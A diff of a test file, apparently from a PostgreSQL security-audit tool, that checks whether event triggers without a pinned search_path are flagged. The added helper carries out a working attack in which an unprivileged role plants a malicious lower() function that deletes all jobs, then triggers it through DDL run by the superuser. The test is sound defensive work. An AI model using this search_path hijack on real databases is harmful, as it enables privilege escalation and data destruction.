@@ -13,20 +13,10 @@ import type { CheckResult } from "../../../../lib/audit/findings/model.js";
 import { probePostgres } from "../../../../lib/audit/probes/postgres/index.js";
 import { config, context } from "../../../support/builders.js";
 import { createPgFixture, type PgFixture } from "../../../support/pgFixture.js";
-import {
-  adminClient,
-  embeddedUnavailable,
-  localPgServer,
-  localPgUnavailable,
-  type PgServer,
-  startEmbeddedPg,
-} from "../../../support/pgServers.js";
+import { adminClient, type PgServer, pgServersUnderTest } from "../../../support/pgServers.js";
 import { skipWithout } from "../../../support/services.js";
 
-const servers = [
-  { name: "the PostgreSQL service on 5432", unavailable: await localPgUnavailable(), start: async () => localPgServer() },
-  { name: "embedded PostgreSQL 18", unavailable: embeddedUnavailable(), start: startEmbeddedPg },
-];
+const servers = await pgServersUnderTest();
 
 const q = (ident: string) => `"${ident.replace(/"/g, '""')}"`;
 
@@ -49,6 +39,24 @@ for (const s of servers) {
         await c.end();
       }
     }
+    async function asMallory<T>(fn: (c: pg.Client) => Promise<T>): Promise<T> {
+      const c = new pg.Client({ host: server?.host, port: server?.port, user: mallory, password, database: fx?.database });
+      await c.connect();
+      try {
+        return await fn(c);
+      } finally {
+        await c.end();
+      }
+    }
+    /** The attack: plant lower() in mallory's schema, put it first on the path, and run any DDL. */
+    const plantAndCreateTempTable = () =>
+      asMallory(async (c) => {
+        await c.query(
+          "CREATE OR REPLACE FUNCTION mal.lower(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN DELETE FROM public.jobs; RETURN $1; END $$",
+        );
+        await c.query("SET search_path = mal, pg_catalog, public");
+        await c.query("CREATE TEMP TABLE scratch (a int)");
+      });
     const jobs = () => inQueueDb(async (c) => Number((await c.query("SELECT count(*) AS n FROM public.jobs")).rows[0].n));
 
     beforeAll(async () => {
@@ -98,18 +106,10 @@ for (const s of servers) {
     it("a role with no grant on the queue creates a temporary table and deletes every job as the superuser", async () => {
       const before = await jobs();
       expect(before).toBeGreaterThan(0);
-      const c = new pg.Client({ host: server?.host, port: server?.port, user: mallory, password, database: fx?.database });
-      await c.connect();
-      try {
+      await asMallory(async (c) => {
         await expect(c.query("DELETE FROM public.jobs")).rejects.toMatchObject({ code: "42501" });
-        await c.query(
-          "CREATE FUNCTION mal.lower(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN DELETE FROM public.jobs; RETURN $1; END $$",
-        );
-        await c.query("SET search_path = mal, pg_catalog, public");
-        await c.query("CREATE TEMP TABLE scratch (a int)");
-      } finally {
-        await c.end();
-      }
+      });
+      await plantAndCreateTempTable();
       expect(await jobs()).toBe(0);
 
       const unsafe = results.filter((r) => r.status === "FAIL");
@@ -125,7 +125,14 @@ for (const s of servers) {
       });
     });
 
-    it("its look-alike with a pinned search_path is not reported", () => {
+    it("its look-alike with a pinned search_path stays silent: alone, the same attack deletes nothing", async () => {
+      await inQueueDb(async (c) => {
+        await c.query("INSERT INTO public.jobs (handler) SELECT '--- !ruby/object:Job {}' FROM generate_series(1, 3)");
+        await c.query(`ALTER EVENT TRIGGER ${q(events.unsafe)} DISABLE`);
+      });
+      const before = await jobs();
+      await plantAndCreateTempTable();
+      expect(await jobs()).toBe(before);
       expect(results.find((r) => r.subject === "public.log_ddl_pinned()")).toBeUndefined();
     });
   });
